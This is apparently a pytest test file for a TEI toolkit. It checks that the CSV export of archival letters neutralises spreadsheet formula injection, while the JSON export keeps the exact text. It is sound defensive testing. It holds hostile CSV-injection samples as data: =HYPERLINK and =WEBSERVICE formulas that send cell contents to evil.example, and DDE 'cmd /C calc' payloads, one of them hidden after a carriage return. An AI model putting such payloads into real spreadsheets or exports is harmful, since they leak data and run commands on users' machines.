"""The letters table and formula injection (issue 21, item 3): no CSV cell begins a formula
(a leading ' where it would, as OWASP recommends); the JSON keeps every text exactly."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
from pathlib import Path

import pytest
from lxml import etree

from tei_toolkit.exports.table import COUNTS, csv_cell, csv_list

from .conftest import installed_tei
from .helpers import NS, export

T = "{http://www.tei-c.org/ns/1.0}"
XML_ID = "{http://www.w3.org/XML/1998/namespace}id"

# What a hostile TEI puts into each column the CSV takes from it.
TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Click here")'
SUMMARY = ["+cmd|' /C calc'!A0", "=1+1 inside the text is no formula"]
URL = '=WEBSERVICE("https://evil.example/"&A1)'
DATE = "-0044-03-15"  # ISO 8601 for 15 March 44 BC: a spreadsheet would compute -62
LANGUAGES = ["\t=1+2", "\r@SUM(1)"]
SENDER = "@SUM(1+1)*cmd|' /C calc'!A0"
SENDER_AUTHORITY = "-2+3+cmd|' /C calc'!A0"
RECIPIENT = '=HYPERLINK("https://evil.example")'
UNREGISTERED = ["-1+1", "-5"]  # recipients the register does not know: as written
TRANSMITTED = "=2+2"
ENCLOSED = "+2+2"
PLACE = "@evil"
FILE_STEM = "=1+2"  # a TEI without xml:id: the id is its file name
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def expected_cell(text: str) -> str:
    """The rule, written apart from table.csv_cell: a leading ' before = + - @ tab CR, but
    not before a plain negative number."""
    if text[:1] in TRIGGERS and not re.fullmatch(r"-[0-9]+(\.[0-9]+)?", text):
        return "'" + text
    return text


def tei(*args: str) -> str:
    proc = subprocess.run([installed_tei(), *args], capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr
    return proc.stdout


def _el(parent: etree._Element, tag: str, text: str | None = None, **attrs: str):
    el = etree.SubElement(parent, T + tag, **attrs)
    el.text = text
    return el


def hostile_tei(folder: Path) -> list[Path]:  # the first is wcda-123 (its URL's record)
    """TEI that `tei import` wrote from a made-up export, given formula-like text in every
    place the letters table reads; the same without xml:id; and a harmless one whose summary
    is a negative number."""
    folder.mkdir(parents=True, exist_ok=True)
    src = folder / "letter.txt"
    src.write_text(export(summary="Placeholder."), encoding="utf-8")
    xml = folder / "letter.xml"
    tei("import", str(src), "-o", str(xml))
    tree = etree.parse(str(xml))
    root = tree.getroot()

    def one(path: str) -> etree._Element:
        found = root.xpath(path, namespaces=NS)
        assert len(found) == 1, path
        return found[0]

    title = one("t:teiHeader/t:fileDesc/t:titleStmt/t:title")
    for child in list(title):
        title.remove(child)
    title.text = TITLE
    abstract = one("t:teiHeader/t:profileDesc/t:abstract")
    for child in list(abstract):
        abstract.remove(child)
    for text in SUMMARY:
        _el(abstract, "p", text)
    one("t:teiHeader/t:fileDesc/t:publicationStmt/t:idno[@type='URI']").text = URL
    one("t:teiHeader/t:profileDesc/t:creation/t:date").set("when", DATE)
    lang_usage = one("t:teiHeader/t:profileDesc/t:langUsage")
    for el in lang_usage.findall(T + "language"):
        lang_usage.remove(el)
    for ident in LANGUAGES:
        _el(lang_usage, "language", "Hostile", ident=ident, n="original")
    one("t:standOff//t:person[@xml:id='gao-gang']/t:persName[@type='preferred']").text = SENDER
    _el(one("t:standOff//t:person[@xml:id='gao-gang']"), "idno", SENDER_AUTHORITY, type="GND")
    one("t:standOff//t:person[@xml:id='peng-dehuai']/t:persName[@type='preferred']").text = \
        RECIPIENT
    corresp = one("t:teiHeader/t:profileDesc/t:correspDesc")
    received = one("t:teiHeader/t:profileDesc/t:correspDesc/t:correspAction[@type='received']")
    for name in UNREGISTERED:
        _el(received, "persName", name)
    _el(_el(corresp, "correspAction", type="transmitted"), "persName", TRANSMITTED)
    _el(_el(corresp, "note", "It contains a message from ", type="enclosure"), "persName",
        ENCLOSED)
    sent = one("t:teiHeader/t:profileDesc/t:correspDesc/t:correspAction[@type='sent']")
    _el(sent, "placeName", PLACE, ref="#evil-place")
    places = root.find(f"{T}standOff/{T}listPlace")
    if places is None:
        places = _el(one("t:standOff"), "listPlace")
    _el(_el(places, "place", **{XML_ID: "evil-place"}), "placeName", PLACE, type="preferred")
    tree.write(str(xml), encoding="utf-8", xml_declaration=True)
    named_by_file = folder / f"{FILE_STEM}.xml"
    del root.attrib[XML_ID]
    tree.write(str(named_by_file), encoding="utf-8", xml_declaration=True)

    plain_src = folder / "plain.txt"
    plain_src.write_text(export(summary="-12.5", citation=(
        '"Telegram", June 19, 1954, Wilson Center Digital Archive, Some Book, p. 1.  \n'
        "<https://digitalarchive.wilsoncenter.org/document/456>")), encoding="utf-8")
    plain = folder / "plain.xml"
    tei("import", str(plain_src), "-o", str(plain))
    return [xml, named_by_file, plain]


@pytest.fixture(scope="module")
def tables(tmp_path_factory) -> tuple[str, list[dict]]:
    """(the CSV's text, the JSON's rows) of the hostile documents, as `tei export` writes
    them."""
    base = tmp_path_factory.mktemp("table")
    files = [str(p) for p in hostile_tei(base / "tei")]
    tei("export", *files, "--to", "csv", "-o", str(base / "letters.csv"))
    tei("export", *files, "--to", "json", "-o", str(base / "letters.json"))
    return ((base / "letters.csv").read_bytes().decode("utf-8-sig"),  # as written: "\r" stays
            json.loads((base / "letters.json").read_text(encoding="utf-8")))


def csv_rows(text: str) -> list[dict]:
    # Python's csv module reads it back: strict, one row per document, every field in place.
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert all(len(r) == len(rows[0]) for r in rows)
    return [dict(zip(rows[0], r)) for r in rows[1:]]


def test_no_csv_cell_begins_a_formula(tables):
    text, _ = tables
    rows = {r["id"]: r for r in csv_rows(text)}
    assert sorted(rows) == sorted(["'" + FILE_STEM, "wcda-123", "wcda-456"])
    row = rows["wcda-123"]
    assert row["title"] == "'" + TITLE
    assert row["type"] == "'" + TITLE.split(",", 1)[0]  # the type is the title's head
    assert row["summary"] == "'" + "\n\n".join(SUMMARY)  # only the cell's start matters
    assert row["url"] == "'" + URL
    assert row["date"] == "'" + DATE  # decision: a date is text, not a subtraction
    assert row["languages"] == "'\t=1+2 | '\r@SUM(1)"  # each item, as lists are split at |
    assert row["senders"] == "'" + SENDER
    assert row["sender_authorities"] == "'" + SENDER_AUTHORITY
    assert row["recipients"] == f"'{RECIPIENT} | '-1+1 | -5"  # -5: a number, left alone
    assert row["transmitted_by"] == "'" + TRANSMITTED
    assert row["enclosed_from"] == "'" + ENCLOSED
    assert row["places"] == "'" + PLACE
    assert rows["wcda-456"]["summary"] == "-12.5"  # a negative number stays a number
    assert rows["wcda-456"]["date"] == "1954-06-19"
    assert rows["'" + FILE_STEM]["title"] == "'" + TITLE
    # Over the whole file: no cell, nor any item of a list cell, begins a formula.
    for r in rows.values():
        for column, cell in r.items():
            for piece in [cell, *cell.split(" | ")]:
                assert not (piece[:1] in TRIGGERS
                            and not re.fullmatch(r"-[0-9]+(\.[0-9]+)?", piece)), (column, cell)


def test_the_csv_differs_from_the_json_only_by_the_quote_where_needed(tables):
    text, rows = tables
    by_id = {r["id"]: r for r in rows}
    # The JSON keeps the exact text, quotes, tabs and carriage returns included.
    row = by_id["wcda-123"]
    assert (row["title"], row["summary"], row["url"], row["date"], row["languages"]) == \
        (TITLE, "\n\n".join(SUMMARY), URL, DATE, LANGUAGES)
    assert [p["name"] for p in row["senders"]] == [SENDER]
    assert [p["authority"] for p in row["senders"]] == [SENDER_AUTHORITY]
    assert [p["name"] for p in row["recipients"]] == [RECIPIENT, *UNREGISTERED]
    assert [p["name"] for p in row["transmitted_by"]] == [TRANSMITTED]
    assert [p["name"] for p in row["enclosed_from"]] == [ENCLOSED]
    assert [p["name"] for p in row["places"]] == [PLACE]
    assert by_id[FILE_STEM]["title"] == TITLE
    assert "'" not in json.dumps([r["title"] for r in rows])
    # Each CSV cell is the JSON's text, with a ' in front only where it begins a formula.
    for r in csv_rows(text):
        j = by_id[r["id"].removeprefix("'")]
        assert r["id"] == expected_cell(j["id"])

        def names(key: str, field: str = "name") -> str:
            return " | ".join(expected_cell(p[field] or "") for p in j[key])
        assert r == {
            "id": expected_cell(j["id"]), "url": expected_cell(j["url"] or ""),
            "date": expected_cell(j["date"]), "type": expected_cell(j["type"]),
            "title": expected_cell(j["title"]),
            "senders": names("senders"), "sender_ids": names("senders", "id"),
            "sender_authorities": names("senders", "authority"),
            "recipients": names("recipients"), "recipient_ids": names("recipients", "id"),
            "recipient_authorities": names("recipients", "authority"),
            "transmitted_by": names("transmitted_by"), "enclosed_from": names("enclosed_from"),
            "places": names("places"),
            "place_sent": expected_cell(j["place_sent"] or ""),
            "place_received": expected_cell(j["place_received"] or ""),
            "call_number": expected_cell(j["call_number"] or ""),
            "translators": " | ".join(expected_cell(x) for x in j["translators"]),
            "languages": " | ".join(expected_cell(x) for x in j["languages"]),
            "summary": expected_cell(j["summary"]),
            **{k: str(j["counts"][k]) for k in COUNTS},
        }
        # ... so a reader can undo it: a ' before a trigger character is ours.
        for column in ("title", "summary", "url", "date"):
            cell = r[column]
            undone = cell[1:] if cell[:1] == "'" and cell[1:2] in TRIGGERS else cell
            assert undone == j[column] or (column == "url" and undone == "" and j[column] is None)


@pytest.mark.parametrize("text, cell", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-", "'-"), ("-0044-03-15", "'-0044-03-15"),
    ("--5", "'--5"), ("-5e3", "'-5e3"), ("-5.", "'-5."), ("-\u0665", "'-\u0665"),
    # Left alone: a plain negative number, and whatever does not begin with a trigger.
    ("-5", "-5"), ("-12.5", "-12.5"), ("", ""), ("1954-06-19", "1954-06-19"),
    ("Telegram, Gao Gang to Peng Dehuai", "Telegram, Gao Gang to Peng Dehuai"),
    ("a=1", "a=1"), (" =1", " =1"), ("'=1", "'=1"), ("\n=1", "\n=1"),
])
def test_csv_cell(text, cell):
    assert csv_cell(text) == cell == expected_cell(text)


def test_csv_list_neutralises_each_item():
    assert csv_list(["Gao Gang", "=1+1", "-5", ""]) == "Gao Gang | '=1+1 | -5 | "


def test_a_carriage_return_inside_a_cell_starts_no_row(tmp_path):
    """A lone CR is a line end to csv readers and spreadsheets: unquoted, the rest of the cell
    would be a row of its own, its first cell a formula no check at the cell's start saw."""
    src = tmp_path / "letter.txt"
    src.write_text(export(), encoding="utf-8")
    xml = tmp_path / "letter.xml"
    tei("import", str(src), "-o", str(xml))
    tree = etree.parse(str(xml))
    url = "https://example.org/document/123\r=2+5+cmd|' /C calc'!A0"  # no " or , in it
    idno = tree.getroot().xpath("//t:publicationStmt/t:idno[@type='URI']", namespaces=NS)[0]
    idno.text = url  # written as &#13;, which a parser keeps
    tree.write(str(xml), encoding="utf-8", xml_declaration=True)
    out = tmp_path / "letters.csv"
    tei("export", str(xml), "--to", "csv", "-o", str(out))
    text = out.read_bytes().decode("utf-8-sig")
    rows = csv_rows(text)
    assert len(rows) == 1 and rows[0]["url"] == url
    assert rows[0]["title"] == "Telegram, Gao Gang to Peng Dehuai"
    assert f'"{url}"' in text


def test_translators_call_number_and_places_are_columns_of_their_own(tmp_path):
    """What a historian sorts by (issue 24): the translators the citation names, the call
    number and the places, in the CSV and in the JSON (names made up)."""
    citation = ('"Telegram, Gao Gang to Peng Dehuai", June 19, 1954, Wilson Center Digital '
                "Archive, Sample Archive, f. 7, d. 12. Translated for CWIHP by Ada Example and "
                "Ben Sample.  \n<https://digitalarchive.wilsoncenter.org/document/900001>")
    src = tmp_path / "letter.txt"
    src.write_text(export(citation=citation), encoding="utf-8")
    xml = tmp_path / "letter.xml"
    tei("import", str(src), "-o", str(xml))
    tei("export", str(xml), "--to", "csv", "-o", str(tmp_path / "letters.csv"))
    tei("export", str(xml), "--to", "json", "-o", str(tmp_path / "letters.json"))
    [row] = csv_rows((tmp_path / "letters.csv").read_bytes().decode("utf-8-sig"))
    [entry] = json.loads((tmp_path / "letters.json").read_text(encoding="utf-8"))
    assert entry["translators"] == ["Ada Example", "Ben Sample"]
    assert row["translators"] == "Ada Example | Ben Sample"
    assert entry["call_number"] == row["call_number"] == "Sample Archive, f. 7, d. 12."
